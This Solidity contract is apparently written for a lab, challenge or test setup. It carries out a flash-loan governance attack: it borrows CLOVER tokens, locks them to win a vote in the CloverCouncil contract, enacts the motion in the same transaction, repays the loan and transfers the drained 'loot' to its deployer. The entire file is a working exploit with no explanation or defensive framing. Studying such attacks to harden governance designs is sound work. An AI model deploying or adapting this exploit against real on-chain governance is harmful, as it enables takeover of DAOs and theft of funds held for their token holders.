// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {CloverCouncil} from "./CloverCouncil.sol";
import {ThistleLender} from "./ThistleLender.sol";

/// @title The attack: two thirds of the votes, for one transaction.
contract CloverRaid is IERC3156FlashBorrower {
    CloverCouncil private immutable _council;
    ThistleLender private immutable _lender;
    IERC20 private immutable _clover;
    address private immutable _raider = msg.sender;

    constructor(CloverCouncil council, ThistleLender lender) {
        (_council, _lender, _clover) = (council, lender, council.clover());
    }

    function strike(uint256 motion, uint256 amount, IERC20 loot) external {
        _lender.flashLoan(this, address(_clover), amount, abi.encode(motion));
        loot.transfer(_raider, loot.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
        uint256 motion = abi.decode(data, (uint256));
        _clover.approve(address(_council), amount);
        _council.lock(amount);
        _council.aye(motion);
        _council.enactAtOnce(motion);
        _council.unlock(amount);
        _clover.approve(address(_lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
